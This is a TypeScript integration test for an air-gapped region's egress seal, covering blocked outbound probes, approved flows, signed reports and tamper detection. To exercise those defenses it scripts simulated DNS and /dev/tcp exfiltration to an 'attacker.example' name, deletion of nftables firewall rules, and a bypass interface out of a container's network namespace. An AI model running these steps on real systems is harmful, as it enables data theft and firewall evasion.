/**
 * The seal end to end: a region with a wire to the outside, where an operator may even let instances out. Nothing undeclared leaves; what three people agree on
 * does, for as long as they said; a hole that root makes by hand is found, told, and closed; and the report of it all is proven by its receipt.
 */
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, suite, test } from 'node:test';
import { chosenImageCache } from '#cli/region/where.ts';
import { findChrony } from '#engines/chrony/daemon.ts';
import { type AirGap, openAirGap } from './support/air-gap.ts';
import { baseImage, createOrganization, type Member, manifest, member } from './support/project.ts';
import { startRegion, type TestRegion } from './support/region.ts';

/** Documentation addresses (RFC 5737): a wire of the test's own. */
const REGION_SIDE = '198.51.100.1';
const OUTSIDE = '198.51.100.2';
const PORT = 8443;
/** What the issue asks of a hole that somebody opens by hand. */
const FOUND_WITHIN = '--timeout=60s';
/** Looked at often, so that the test waits for little; `src/gap/seal/controller.ts` looks every 15 s by itself. */
const SETTINGS = `
sealEvery_s: 2
network:
  egress: true
time:
  sources: [{ server: ${OUTSIDE} }]
`;

suite('the seal of a region', { timeout: 540_000 }, () => {
  let region: TestRegion;
  let gap: AirGap;
  let outside: AirGap;
  let operator: Member;
  let ann: Member;
  let ben: Member;
  let alice: Member;
  let timeServer = '';

  before(async () => {
    region = await startRegion({ airGapped: true, settings: SETTINGS });
    assert.ok(region.airGap);
    gap = region.airGap;
    outside = await openAirGap();
    await wire(gap, outside, 'uplink', REGION_SIDE, OUTSIDE);
    await root('ip', 'route', 'add', 'default', 'via', OUTSIDE);
    operator = member(region, region.kubeconfig);
    [ann, ben] = (await Promise.all(
      ['ann', 'ben'].map(async (name) => {
        const file = join(region.scratch, `${name}.kubeconfig`);
        await operator.casemate('user', 'create', name, '--role', 'region-operator', '--out', file);
        return member(region, file);
      }),
    )) as [Member, Member];
    alice = await createOrganization(region, 'hospital');
    await alice.kubectl('create', 'namespace', 'ward');
    const image = await baseImage(region);
    await alice.apply(
      manifest(['lan'], [{ name: 'web', image, networks: ['lan'], labels: { role: 'web' } }]),
      '-n',
      'ward',
    );
    await alice.kubectl('-n', 'ward', 'wait', '--for=condition=Ready', 'instance/web', '--timeout=180s');
    const policy = {
      apiVersion: 'network.casemate.internal/v1',
      kind: 'FirewallPolicy',
      metadata: { name: 'out' },
      spec: { instances: {}, egress: [{ action: 'Allow', to: [{ cidr: '0.0.0.0/0' }] }] },
    };
    await alice.apply(JSON.stringify(policy), '-n', 'ward');
    await alice.kubectl('-n', 'ward', 'wait', '--for=condition=Ready', 'fwp/out', '--timeout=60s');
    void outside.run(process.execPath, ['-e', SERVER]);
    const ready = `for i in $(seq 100); do timeout 1 bash -c '</dev/tcp/${OUTSIDE}/${PORT}' 2>/dev/null && exit 0; sleep 0.1; done; exit 1`;
    await root('bash', '-c', ready);
  });
  after(async () => {
    await outside?.run('pkill', ['-f', 'casemate-seal-test-server']);
    if (timeServer !== '') await outside?.run('sh', ['-c', `kill $(cat ${timeServer})`]);
    await outside?.close();
    await region?.destroy();
  });

  /** As an administrator of the machine, who is outside the seal. */
  const root = async (command: string, ...args: readonly string[]): Promise<string> => {
    const { code, stdout, stderr } = await gap.run(command, args);
    assert.equal(code, 0, stderr);
    return stdout.trim();
  };
  const dial = ['timeout', '2', 'bash', '-c', `</dev/tcp/${OUTSIDE}/${PORT}`];
  const instanceGetsOut = async () => (await alice.inInstance('ward', 'web', dial)).code === 0;
  /** A command of this machine where the instance's network is. */
  const inNetworkOfWeb = async (command: string, ...args: readonly string[]) => {
    // Of this region's containers alone: others may run on this machine.
    const monitor = `^.lxc monitor. ${join(region.data, 'incus/containers')} `;
    const pid = await root('pgrep', '-o', '-f', monitor);
    const init = (await root('pgrep', '-P', pid)).split('\n', 1)[0] ?? '';
    return gap.run('nsenter', [`--net=/proc/${init}/ns/net`, command, ...args]);
  };
  const becomes = (sealed: 'true' | 'false') =>
    operator.kubectl('wait', `--for=condition=Sealed=${sealed}`, 'seal/region', FOUND_WITHIN);
  const status = async () => (await region.run(CASEMATE(), ['status', '--data', region.data])).stdout;
  const reportOf = async () => {
    const { stdout } = await operator.tryCasemate('seal', 'probe', '-o', 'json');
    return JSON.parse(stdout) as ProvenReport;
  };

  test('it holds, and says so to whoever asks: on the machine, and as an operator', async () => {
    await becomes('true');
    assert.match(await status(), /Sealed since .*nothing undeclared leaves/);
    assert.match(
      await operator.casemate('seal', 'status'),
      /^Sealed since (?:.|\n)*No flow is declared: nothing may leave/,
    );
    const { report } = await reportOf();
    assert.deepEqual([report.spec.sealed, report.spec.enforced, report.spec.bridges], [true, true, 1]);
    for (const process of ['firewall', 'incus', 'postgres', 'region', 'supervisor', 'time'])
      assert.ok(report.spec.processes.includes(process), process);
    const outcomes = new Set(report.spec.probes.map(({ outcome }) => outcome));
    assert.ok(outcomes.has('Blocked'));
    assert.ok(!outcomes.has('Escaped') && !outcomes.has('Declared'));
    for (const protocol of ['tcp', 'udp', 'icmp'])
      assert.ok(
        report.spec.probes.some((probe) => probe.protocol === protocol && probe.outcome === 'Blocked'),
        protocol,
      );
    for (const what of [
      'an address outside',
      'a name server outside',
      'a name server outside, by TLS',
      'a proxy outside',
      'the metadata address',
      'this machine’s gateway',
    ])
      assert.equal(report.spec.probes.find((probe) => probe.what === what)?.outcome, 'Blocked', what);
  });

  test('it is tried from each network as well, whoever has instances there and whatever they allow', async () => {
    const { report } = await reportOf();
    const probes = report.spec.probes.filter(
      ({ from, protocol }) => from === 'network hospital/ward/lan' && protocol !== 'dns',
    );
    const outcomes = Object.fromEntries(
      probes.map(({ what, protocol, outcome }) => [`${what} ${protocol}`, outcome]),
    );
    for (const what of ['an address outside tcp', 'an address outside udp', 'an address outside icmp'])
      assert.equal(outcomes[what], 'Blocked', `${what}: ${JSON.stringify(probes)}`);
    assert.equal(outcomes['the metadata address tcp'], 'Blocked');
    assert.equal(outcomes['an address outside, by IPv6 tcp'], 'NoRoute');
    // Nothing of it stays on the machine.
    assert.doesNotMatch(await root('ip', '-o', 'link', 'show'), /cv[0-9a-f]{3}fffff/);
  });

  test('a report is proven by its receipt, offline, with nothing but the public key of the log', async () => {
    const { report, receipt } = await reportOf();
    const file = join(region.scratch, 'report.tlog-proof');
    writeFileSync(file, receipt);
    const key = (await operator.casemate('ledger', 'key')).split('\n', 1)[0] ?? '';
    const checked = await operator.casemate('ledger', 'check-receipt', file, '--key', key, '-o', 'json');
    const { leaf } = JSON.parse(checked) as { leaf: { uid: string; verb: string; resource: string } };
    assert.deepEqual([leaf.uid, leaf.verb], [report.metadata.uid, 'create']);
    assert.match(leaf.resource, /^sealreports/);
    const forged = await operator.tryCasemate(
      'ledger',
      'check-receipt',
      file,
      '--key',
      key.replace(/.$/, (c) => (c === 'A' ? 'B' : 'A')),
    );
    assert.notEqual(forged.code, 0);
  });

  test('an instance that a policy lets out is held all the same, and the attempt is on record with its network', async () => {
    assert.equal(await instanceGetsOut(), false);
    const { report } = await reportOf();
    const attempt = report.spec.attempts.find(
      ({ destination, port }) => destination === OUTSIDE && port === PORT,
    );
    assert.ok(attempt);
    assert.deepEqual(
      [attempt.by, attempt.protocol, attempt.network],
      ['instances', 'tcp', 'hospital/ward/lan'],
    );
    assert.match(await operator.kubectl('get', 'events', '-A'), /AttemptToLeave/);
  });

  test('it is probed from inside an instance whose organization allows that, which reads so in its own access log', async () => {
    const from = (report: ProvenReport['report']) =>
      report.spec.probes.filter((probe) => probe.from.endsWith('(hospital/ward/lan)'));
    assert.deepEqual(from((await reportOf()).report), []);
    await alice.kubectl('-n', 'ward', 'label', 'instance/web', 'seal.casemate.internal/probe=true');
    const probes = from((await reportOf()).report);
    const outcomes = Object.fromEntries(
      probes.map(({ what, protocol, outcome }) => [`${what} ${protocol}`, outcome]),
    );
    assert.equal(outcomes['an address outside tcp'], 'Blocked');
    assert.equal(outcomes['an address outside udp'], 'Blocked');
    assert.equal(outcomes['a name server outside udp'], 'Blocked');
    assert.equal(outcomes['the metadata address tcp'], 'Blocked');
    assert.equal(outcomes['an address outside icmp'], 'Blocked');
    assert.equal(outcomes['a name server outside, by TLS tcp'], 'Blocked');
    assert.equal(outcomes['a proxy outside tcp'], 'Blocked');
    assert.equal(outcomes['an address outside, by IPv6 tcp'], 'NoRoute');
    const log = await alice.casemate('ledger', 'show', '--log', 'access');
    assert.match(log, /system:controller:seal .*instances\.compute\.casemate\.internal\/exec/);
  });

  test('an instance that gets a way out beside the bridges is found out from inside', async () => {
    const add = ['link', 'add', 'hole', 'type', 'veth', 'peer', 'name', 'hole', 'netns', `${outside.pid}`];
    assert.equal((await inNetworkOfWeb('ip', ...add)).code, 0);
    for (const step of [
      ['address', 'add', '203.0.113.76/24', 'dev', 'hole'],
      ['link', 'set', 'hole', 'up'],
    ])
      assert.equal((await inNetworkOfWeb('ip', ...step)).code, 0);
    for (const step of [
      ['address', 'add', '203.0.113.77/24', 'dev', 'hole'],
      ['link', 'set', 'hole', 'up'],
    ])
      assert.equal((await outside.run('ip', step)).code, 0);
    const { report } = await reportOf();
    assert.deepEqual([report.spec.sealed, report.spec.reason], [false, 'Escaped']);
    assert.match(report.spec.findings.join(' '), /tcp 203\.0\.113\.77 port 443/);
    assert.match(await status(), /NOT SEALED/);
    await inNetworkOfWeb('ip', 'link', 'delete', 'hole');
    await becomes('true');
  });

  test('an instance learns where the region’s time is, and a real client gets it there', async () => {
    const bridge = await alice.kubectl(
      '-n',
      'ward',
      'get',
      'network/lan',
      '-o',
      'jsonpath={.status.gateway}',
    );
    const leases = await alice.inInstance('ward', 'web', ['sh', '-c', 'cat /run/systemd/netif/leases/*']);
    assert.match(leases.stdout, new RegExp(`^NTP=${bridge.replaceAll('.', '\\.')}$`, 'm'));
    const programs = findChrony(join(chosenImageCache(undefined), 'programs'));
    assert.ok(programs);
    const question = `server ${bridge} iburst maxsamples 1`;
    const asked = await inNetworkOfWeb(programs.daemon, '-Q', '-t', '10', '-u', 'root', question);
    assert.match(asked.stderr, /System clock wrong by -?0\.0/);
  });

  test('names of the region are answered; no other name is, and none leaves it, by whatever way an instance tries', async () => {
    const inWeb = (script: string) => alice.inInstance('ward', 'web', ['bash', '-c', script]);
    assert.equal((await inWeb('getent hosts web.lan.ward.hospital.internal')).code, 0);
    const secret = 'patient-4711.attacker.example';
    assert.notEqual((await inWeb(`getent hosts ${secret}`)).code, 0);
    const ways = ['udp/203.0.113.9/53', 'tcp/203.0.113.9/53', 'tcp/203.0.113.9/853', 'tcp/203.0.113.9/443'];
    const tries = ways.map((way) => `timeout 1 bash -c 'echo ${secret} >/dev/${way}' &`);
    await inWeb(`${tries.join('\n')}\nwait`);
    const { report } = await reportOf();
    const tried = report.spec.attempts.filter(({ destination }) => destination === '203.0.113.9');
    assert.deepEqual(
      tried.map(({ protocol, port, instance }) => `${protocol} ${port} ${instance}`).toSorted(),
      ['tcp 443', 'tcp 53', 'tcp 853', 'udp 53'].map((what) => `${what} hospital/ward/web`),
    );
    // dnsmasq runs as a process of Incus: had it passed the name on, that would stand here.
    assert.deepEqual(
      report.spec.attempts.filter(({ by, port }) => by === 'incus' && port === 53),
      [],
    );
    const asked = report.spec.probes.find(({ protocol }) => protocol === 'dns');
    assert.deepEqual([asked?.from, asked?.outcome], ['network hospital/ward/lan', 'Blocked']);
  });

  test('that no source of time answers is told, and that one does once its flow is agreed to', async () => {
    await operator.kubectl('wait', '--for=condition=OnTime=false', 'regiontime/region', FOUND_WITHIN);
    const { code, stdout } = await operator.tryCasemate('seal', 'time');
    assert.equal(code, 3);
    assert.match(stdout, /^NOT ON TIME \(NoSource\) since .*udp 123/);
    const server = findChrony(join(chosenImageCache(undefined), 'programs'))?.daemon ?? '';
    const options = ['-x', '-u', 'root', 'local stratum 1', 'allow', 'cmdport 0', 'bindcmdaddress /'];
    timeServer = join(region.scratch, 'time.pid');
    assert.equal((await outside.run(server, [...options, `pidfile ${timeServer}`])).code, 0);
    const flow = {
      apiVersion: 'seal.casemate.internal/v1',
      kind: 'Interconnection',
      metadata: { name: 'time' },
      spec: {
        direction: 'Out',
        protocol: 'udp',
        ports: [123],
        peers: [`${OUTSIDE}/32`],
        purpose: 'the time of the state',
        owner: 'the network office',
        validUntil: new Date(Date.now() + 24 * 60 * 60_000).toISOString(),
      },
    };
    await operator.apply(JSON.stringify(flow));
    for (const person of [ann, ben]) await person.casemate('seal', 'approve', 'time');
  });

  test('a flow passes once two people other than who asks agreed, and no longer than it is declared', async () => {
    const flow = {
      apiVersion: 'seal.casemate.internal/v1',
      kind: 'Interconnection',
      metadata: { name: 'registry' },
      spec: {
        direction: 'Out',
        from: 'Instances',
        protocol: 'tcp',
        ports: [PORT],
        peers: [`${OUTSIDE}/32`],
        purpose: 'the national registry of patients',
        owner: 'the ward',
        validUntil: new Date(Date.now() + 24 * 60 * 60_000).toISOString(),
      },
    };
    await operator.apply(JSON.stringify(flow));
    const own = await operator.tryCasemate('seal', 'approve', 'registry');
    assert.match(own.stderr, /whoever asks cannot approve/);
    assert.match(await ann.casemate('seal', 'approve', 'registry'), /is Pending: 1 of 2 approvals/);
    assert.match((await ann.tryCasemate('seal', 'approve', 'registry')).stderr, /approved it already/);
    assert.equal(await instanceGetsOut(), false);
    assert.match(await ben.casemate('seal', 'approve', 'registry'), /is Approved: 2 of 2 approvals/);
    await operator.kubectl('wait', '--for=condition=Ready', 'interconnection/registry', '--timeout=30s');
    // A busy machine may take longer than one attempt does.
    for (let tries = 0; tries < 5 && !(await instanceGetsOut()); tries++) assert.ok(tries < 4, 'it passes');
    assert.match(await operator.casemate('seal', 'status'), /registry +InForce +Out +Instances +tcp +8443/);
    const { report } = await reportOf();
    const seen = report.spec.flows.find(({ name }) => name === 'registry');
    assert.ok(seen !== undefined && seen.packets > 0);
    const widened = await operator.tryCasemate(
      'patch',
      'interconnection',
      'registry',
      '--type',
      'merge',
      '-p',
      '{"spec":{"peers":["0.0.0.0/0"]}}',
    );
    assert.notEqual(widened.code, 0);
    await operator.kubectl('delete', 'interconnection/registry');
    await operator.kubectl('wait', '--for=jsonpath={.status.flows}=1', 'seal/region', '--timeout=30s');
    assert.equal(await instanceGetsOut(), false);
  });

  test('nobody writes a report, or another seal, but the region', async () => {
    const { report } = await reportOf();
    const forged = { ...report, metadata: { name: 'fine' } };
    const { stderr } = await operator.tryCasemate('create', '-f', write('forged.json', forged));
    assert.match(stderr, /the region writes reports/);
    assert.match(
      (await operator.tryCasemate('delete', 'sealreport', report.metadata.name)).stderr,
      /stays as it was written/,
    );
    assert.match((await operator.tryCasemate('delete', 'seal', 'region')).stderr, /the only Seal there is/);
  });

  test('a hole opened by hand in the rules is found within a minute, raises an alarm, and is closed', async () => {
    const table = (await root('nft', 'list', 'tables')).match(/casemate_\w+_seal/)?.[0] ?? '';
    // By its number, looked up at that moment: rules are put anew whenever what they are about changes.
    const number = `nft -a list chain inet ${table} judge_region | sed -n 's/.*drop # handle //p'`;
    const deleteRule = `nft delete rule inet ${table} judge_region handle $(${number})`;
    for (const [command, said] of [
      [['sh', '-c', deleteRule], 'table inet'],
      [['nft', 'delete', 'table', 'inet', table], 'table inet'],
      [['nft', 'insert', 'rule', 'inet', table, 'judge_instances', 'accept'], 'table inet'],
      [['sh', '-c', 'echo 0 > /proc/sys/net/ipv4/ip_forward'], 'kernel setting net/ipv4/ip_forward is 0'],
    ] as const) {
      await becomes('true');
      const [program, ...rest] = command;
      await root(program, ...rest);
      await becomes('false');
      assert.match(await status(), new RegExp(`NOT SEALED since .*root on this machine changed it: ${said}`));
      assert.equal(await instanceGetsOut(), false);
      await becomes('true');
    }
    assert.match(await operator.kubectl('get', 'events', '-A'), /Disturbed/);
    const why = await operator.kubectl('get', 'sealreports', '-o', 'jsonpath={.items[*].spec.why}');
    assert.match(why, /Disturbed/);
  });

  test('another way out through another interface is none', async () => {
    await becomes('true');
    await wire(gap, outside, 'side', '203.0.113.1', '203.0.113.2');
    await root('ip', 'route', 'replace', 'default', 'via', '203.0.113.2');
    assert.equal(await instanceGetsOut(), false);
    const { report } = await reportOf();
    assert.equal(report.spec.sealed, true);
    const toGateway = report.spec.probes.find(({ destination }) => destination === '203.0.113.2');
    assert.equal(toGateway?.outcome, 'Blocked');
    assert.match(await operator.kubectl('get', 'events', '-A'), /NewWayOut .*via 203\.0\.113\.2/);
  });

  test('a process of the region that somebody takes out of the seal is found within a minute', async () => {
    await becomes('true');
    const { supervisor } = JSON.parse(
      (await region.run(CASEMATE(), ['status', '--data', region.data, '-o', 'json'])).stdout,
    ) as {
      supervisor: { processes: { name: string; pid: number }[] };
    };
    const top = await root(
      'sh',
      '-c',
      'test -e /sys/fs/cgroup/cgroup.procs && echo /sys/fs/cgroup || echo /sys/fs/cgroup/unified',
    );
    for (const process of ['region', 'postgres']) {
      const pid = supervisor.processes.find(({ name }) => name === process)?.pid ?? 0;
      const own = readFileSync(`/proc/${pid}/cgroup`, 'utf8').match(/^0::(.*)$/m)?.[1] ?? '';
      writeFileSync(`${top}/cgroup.procs`, `${pid}`);
      await becomes('false');
      assert.match(await operator.casemate('get', 'seal', 'region'), /NotHeld/);
      writeFileSync(`${top}${own}/cgroup.procs`, `${pid}`);
      await becomes('true');
    }
  });

  test('the declared source of time is taken by now', async () => {
    await operator.kubectl('wait', '--for=condition=OnTime=true', 'regiontime/region', FOUND_WITHIN);
    const shown = await operator.casemate('seal', 'time');
    assert.match(shown, /^On time since .*\n(?:.|\n)* Selected +198\.51\.100\.2/);
  });

  const write = (name: string, value: unknown): string => {
    const file = join(region.scratch, name);
    writeFileSync(file, JSON.stringify(value));
    return file;
  };
});

const CASEMATE = () => join(import.meta.dirname, '..', 'casemate');

const SERVER = `/* casemate-seal-test-server */ require('net').createServer((s)=>s.on('error',()=>{}).end('hello\\n')).listen(${PORT},'0.0.0.0')`;

/** A wire between two places. */
async function wire(a: AirGap, b: AirGap, name: string, own: string, other: string): Promise<void> {
  const must = async (place: AirGap, ...args: readonly string[]) => {
    const { code, stderr } = await place.run('ip', args);
    assert.equal(code, 0, stderr);
  };
  await must(a, 'link', 'add', name, 'type', 'veth', 'peer', 'name', name, 'netns', `${b.pid}`);
  for (const [place, address] of [
    [a, own],
    [b, other],
  ] as const) {
    await must(place, 'address', 'add', `${address}/24`, 'dev', name);
    await must(place, 'link', 'set', name, 'up');
  }
}

interface ProvenReport {
  readonly receipt: string;
  readonly report: {
    readonly metadata: { readonly uid: string; readonly name: string };
    readonly spec: {
      readonly sealed: boolean;
      readonly enforced: boolean;
      readonly bridges: number;
      readonly processes: readonly string[];
      readonly reason: string;
      readonly findings: readonly string[];
      readonly probes: readonly {
        from: string;
        what: string;
        destination: string;
        protocol: string;
        outcome: string;
      }[];
      readonly attempts: readonly {
        by: string;
        destination: string;
        protocol: string;
        port?: number;
        network?: string;
        instance?: string;
      }[];
      readonly flows: readonly { name?: string; packets: number }[];
    };
  };
}
